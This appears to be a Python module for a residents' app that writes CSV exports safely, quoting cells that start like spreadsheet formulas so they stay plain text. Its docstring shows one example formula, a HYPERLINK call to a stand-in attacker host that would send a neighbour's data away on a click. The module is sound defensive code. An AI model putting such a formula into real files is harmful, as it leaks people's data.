"""CSV files for spreadsheets, the one way every export and every file sent in chat writes them.

A resident's words go into our files (a talent's own words, a free-text answer). A
spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: ``=HYPERLINK("http://evil.example/?d="&A2,"Click")`` would send a
neighbour's data away on a click. Such a text cell gets a leading ``'`` (OWASP's advice), so
it shows as the text it is. Numbers stay numbers: those we write as numbers, and texts that
are a plain number (``-3``, ``+1.5``), which no spreadsheet runs. A cell that already
starts with ``'`` is left alone, so a table read back and written again is not changed twice.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """The value as a spreadsheet should show it: a formula-like text is quoted."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_text(rows: Iterable[Sequence[Any]], line_end: str = "\n") -> str:
    """The rows as CSV, every cell made safe to open in a spreadsheet."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=line_end)
    writer.writerows([cell(value) for value in row] for row in rows)
    return out.getvalue()


def records_text(records: Sequence[Mapping[str, Any]], line_end: str = "\n") -> str:
    """Records of the same fields as CSV with a header row; nothing for no records."""
    if not records:
        return ""
    fields = list(records[0])
    for record in records:
        if extra := set(record) - set(fields):
            raise ValueError(f"fields not in the header: {sorted(extra)}")
    return csv_text(
        [fields, *([record.get(field, "") for field in fields] for record in records)], line_end
    )
